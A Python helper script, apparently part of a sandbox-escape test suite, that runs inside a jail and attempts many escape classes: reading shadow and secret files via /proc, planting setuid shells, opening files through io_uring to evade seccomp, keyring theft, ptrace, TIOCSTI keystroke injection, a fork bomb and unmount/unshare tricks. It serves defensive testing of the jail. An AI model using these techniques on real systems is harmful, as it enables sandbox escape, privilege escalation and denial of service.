"""Hostile proc for the escape suite: `attacks.py NAME ARGS...` tries one class of escape from
inside the jail and prints what it got. The test judges from outside (files unchanged, decoy
processes alive); what this prints is only for the failure message."""
import ctypes
import errno
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)


def attempt(what, f):
    try:
        r = f()
        print(what, "OK", repr(r)[:200])
        return r
    except OSError as e:
        print(what, errno.errorcode.get(e.errno, e.errno))
    except Exception as e:  # noqa: BLE001 - anything that fails is a failed attack
        print(what, type(e).__name__)


def sys_call(nr, *args):
    r = libc.syscall(nr, *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if r == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return r


def read_secret(paths):
    for p in paths:
        attempt("read " + p, lambda p=p: open(p, "rb").read())


def write_outside(paths):
    for p in paths:
        attempt("write " + p, lambda p=p: open(p, "w").write("pwned"))
        attempt("append " + p, lambda p=p: open(p, "a").write("pwned"))
        attempt("unlink " + p, lambda p=p: os.unlink(p))


def uring_open(path, flags, mode):
    """open(2) through io_uring (IORING_OP_OPENAT): no seccomp filter sees its arguments."""
    import mmap
    params = ctypes.create_string_buffer(120)
    fd = sys_call(425, 4, params)  # io_uring_setup(4 entries)
    u32 = lambda off: int.from_bytes(params.raw[off:off + 4], "little")
    sq_entries, sq_tail, sq_mask, sq_array = u32(0), u32(44), u32(48), u32(64)
    ring = mmap.mmap(fd, sq_array + 4 * sq_entries, offset=0)
    sqes = mmap.mmap(fd, 64 * sq_entries, offset=0x10000000)
    name = ctypes.create_string_buffer(path.encode())
    sqe = bytearray(64)
    sqe[0] = 18  # IORING_OP_OPENAT
    sqe[4:8] = (-100).to_bytes(4, "little", signed=True)  # AT_FDCWD
    sqe[16:24] = ctypes.addressof(name).to_bytes(8, "little")
    sqe[24:28] = mode.to_bytes(4, "little")
    sqe[28:32] = flags.to_bytes(4, "little")
    sqes[0:64] = bytes(sqe)
    tail = int.from_bytes(ring[sq_tail:sq_tail + 4], "little")
    idx = tail & int.from_bytes(ring[sq_mask:sq_mask + 4], "little")
    ring[sq_array + 4 * idx:sq_array + 4 * idx + 4] = (0).to_bytes(4, "little")
    ring[sq_tail:sq_tail + 4] = (tail + 1).to_bytes(4, "little")
    return sys_call(426, fd, 1, 1, 1, None, 0)  # io_uring_enter(submit 1, wait 1, GETEVENTS)


def keyring():
    """The keys of the session the supervisor was started from: the payload, if read, is
    printed (the test looks for it)."""
    key = attempt("keyctl search", lambda: sys_call(250, 10, -3, b"user", b"escape-secret", 0))
    if isinstance(key, int):
        buf = ctypes.create_string_buffer(256)
        n = attempt("keyctl read", lambda: sys_call(250, 11, key, buf, 256))
        if isinstance(n, int):
            print("payload", buf.raw[:n].decode(errors="replace"))
    attempt("add_key", lambda: sys_call(248, b"user", b"planted", b"x", 1, -3))


def setuid(dirpath):
    target = os.path.join(dirpath, "rootshell")
    attempt("copy", lambda: open(target, "wb").write(open("/bin/sh", "rb").read()))
    attempt("chmod 4755", lambda: os.chmod(target, 0o4755))
    attempt("chmod 2755", lambda: os.chmod(target, 0o2755))
    fd = attempt("creat 4755", lambda: os.open(os.path.join(dirpath, "suid2"), os.O_CREAT | os.O_WRONLY, 0o4755))
    if isinstance(fd, int):
        attempt("fchmod 4755", lambda: os.fchmod(fd, 0o4755))
    attempt("mknod 4755", lambda: os.mknod(os.path.join(dirpath, "suid3"), 0o104755))
    # An unnamed file made with the bits, then given a name (linkat through /proc follows the
    # fd's link). Left empty, since a write by the proc would clear the bits: a host process
    # writing into it later as root would keep them.
    for mode in (0o4755, 0o2755):
        fd = attempt(f"O_TMPFILE {mode:o}", lambda mode=mode: os.open(dirpath, os.O_TMPFILE | os.O_WRONLY, mode))
        if isinstance(fd, int):
            name = os.path.join(dirpath, f"tmpfile{mode:o}").encode()
            attempt("linkat O_TMPFILE", lambda: sys_call(265, -100, f"/proc/self/fd/{fd}".encode(), -100, name, 0x400))
    # io_uring's own open: its mode never meets a seccomp filter.
    attempt("io_uring open 6755", lambda: uring_open(os.path.join(dirpath, "uring"), os.O_CREAT | os.O_WRONLY, 0o6755))
    attempt("chown root", lambda: os.chown(target, 0, 0))


def proc_of(pid, secret_files):
    for f in ("environ", "cmdline", "root/etc/shadow", "cwd", "maps"):
        attempt("proc " + f, lambda f=f: open(f"/proc/{pid}/{f}", "rb").read())
    attempt("mem write", lambda: open(f"/proc/{pid}/mem", "wb").write(b"x"))
    for p in secret_files:
        attempt("via root " + p, lambda p=p: open(f"/proc/{pid}/root{p}", "rb").read())
        attempt("via 1 " + p, lambda p=p: open(f"/proc/1/root{p}", "rb").read())
    for fd in range(3, 20):
        attempt(f"fd {fd}", lambda fd=fd: os.listdir(f"/proc/{pid}/fd/{fd}"))


def signal_outside(pid):
    import signal
    import fcntl
    attempt("kill", lambda: os.kill(pid, signal.SIGKILL))
    attempt("stop", lambda: os.kill(pid, signal.SIGSTOP))
    attempt("tgkill", lambda: sys_call(234, pid, pid, 9))
    attempt("pidfd_open", lambda: sys_call(434, pid, 0))
    lim = (ctypes.c_ulong * 2)(0, 0)
    attempt("prlimit NOFILE 0", lambda: sys_call(302, pid, 7, ctypes.byref(lim), 0))
    attempt("setpriority", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
    r, w = os.pipe()
    attempt("F_SETOWN", lambda: fcntl.fcntl(r, fcntl.F_SETOWN, pid))
    attempt("F_SETSIG", lambda: fcntl.fcntl(r, 10, 9))
    attempt("O_ASYNC", lambda: fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC))
    os.write(w, b"x")


def tiocsti():
    import fcntl
    import termios
    for fd in (0, 1, 2):
        attempt(f"TIOCSTI {fd}", lambda fd=fd: [fcntl.ioctl(fd, termios.TIOCSTI, c) for c in b"echo pwned\n"])
    attempt("TIOCLINUX", lambda: fcntl.ioctl(0, termios.TIOCLINUX, b"\x06"))


def fork_bomb():
    n = 0
    pids = []
    while n < 5000:
        try:
            pid = os.fork()
        except OSError as e:
            print("fork failed after", n, errno.errorcode.get(e.errno))
            break
        if pid == 0:
            import threading
            threading.Event().wait(30)
            os._exit(0)
        pids.append(pid)
        n += 1
    print("forked", n)


def flood(nr, count):
    ok = 0
    for _ in range(count):
        if libc.syscall(nr, 0, 0, 0) == -1:
            ok += 1
    print("refused", ok)


def ptrace(pid):
    attempt("attach", lambda: sys_call(101, 16, pid, 0, 0))  # PTRACE_ATTACH
    attempt("seize", lambda: sys_call(101, 0x4206, pid, 0, 0))
    attempt("process_vm_readv", lambda: sys_call(310, pid, 0, 0, 0, 0, 0))


def unmount(paths):
    for p in paths:
        attempt("umount " + p, lambda p=p: sys_call(166, p.encode(), 2))  # MNT_DETACH
        attempt("listdir " + p, lambda p=p: os.listdir(p))
    attempt("mount tmpfs", lambda: sys_call(165, b"none", b"/tmp", b"tmpfs", 0, 0))
    attempt("unshare user", lambda: sys_call(272, 0x10000000))
    attempt("unshare mount", lambda: sys_call(272, 0x00020000))
    attempt("chroot", lambda: os.chroot("/tmp"))


def by_handle(path):
    # name_to_handle_at on a file we can see, then open_by_handle_at on the root fs.
    buf = ctypes.create_string_buffer(8 + 128)
    ctypes.memmove(buf, (ctypes.c_uint * 1)(128), 4)
    mnt = ctypes.c_int(0)
    attempt("name_to_handle_at", lambda: sys_call(303, -100, path.encode(), buf, ctypes.byref(mnt), 0))
    fd = os.open("/", os.O_RDONLY)
    attempt("open_by_handle_at", lambda: sys_call(304, fd, buf, 0))


def outlive():
    # Keep beating (a file per process in the working directory) in this process and in a
    # child in a session of its own, for as long as anything lets them.
    import time
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
    # One write: with PYTHONUNBUFFERED print's pieces are separate writes, which the two
    # processes would interleave.
    os.write(1, b"up %d\n" % os.getpid())
    n = 0
    while True:
        with open("heartbeat-%d" % os.getpid(), "w") as f:
            f.write(str(n))
        n += 1
        time.sleep(0.05)


def main():
    name, args = sys.argv[1], sys.argv[2:]
    {
        "read_secret": lambda: read_secret(args),
        "write_outside": lambda: write_outside(args),
        "setuid": lambda: setuid(args[0]),
        "keyring": keyring,
        "proc_of": lambda: proc_of(int(args[0]), args[1:]),
        "signal_outside": lambda: signal_outside(int(args[0])),
        "tiocsti": tiocsti,
        "fork_bomb": fork_bomb,
        "flood": lambda: flood(int(args[0]), int(args[1])),
        "ptrace": lambda: ptrace(int(args[0])),
        "unmount": lambda: unmount(args),
        "by_handle": lambda: by_handle(args[0]),
        "show": lambda: print(open(args[0]).read()),
        "outlive": outlive,
    }[name]()
    print("attack done")


main()
